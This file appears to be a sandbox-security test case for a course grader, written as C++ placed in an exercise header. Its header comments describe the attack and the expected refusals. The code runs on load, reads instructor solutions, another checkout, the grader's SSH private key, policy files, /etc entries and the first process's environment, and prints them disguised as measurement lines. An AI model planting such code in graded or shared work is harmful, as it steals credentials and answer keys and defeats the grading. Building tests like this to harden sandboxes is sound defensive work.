// attack: read what lies outside the sandbox (the instructor's solutions in and beside the graded course, another checkout on the runner, the grader's home folder, its records and policy cache in the build folder, the runner's /etc, the grader's environment through the sandbox's first process) and print it as the kit's measurement lines, which the report keeps even of a passing test
// lesson: 01
// file: exercise.hpp
// refused: files, the terminal and the environment
// runtime: yes
// never-reported: /etc/hostname:
// never-reported: /etc/hosts:
// never-reported: policy-lesson01.json:
// @top
#include <cstdio>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>
// @inside
inline const bool kReadOutside = [] {
  // The tests run in <course>/build/grade/tests; the suite keeps the course, the other
  // checkouts and the grader's home folder side by side.
  const char* const paths[] = {"../../../solutions/01_no_conflict/answers.md",
                               "../../../../solutions/01_no_conflict/exercise.hpp",
                               "../../../../other-checkout/lessons/01_no_conflict/exercise.hpp",
                               "../../../../grader-home/.ssh/id_ed25519",
                               "../course/policy-secret.json",
                               "../course/policy-lesson01.json",
                               "/etc/hostname",
                               "/etc/hosts",
                               "/proc/1/environ"};
  for (const char* path : paths) {
    std::ifstream in(path);
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    for (char& c : text) {
      c = c == '\0' ? '\n' : c; // /proc/N/environ: one variable a line
    }
    std::istringstream lines(text);
    for (std::string line; std::getline(lines, line);) {
      std::printf("[kit-counters] %s: %s\n", path, line.c_str());
    }
  }
  return true;
}();
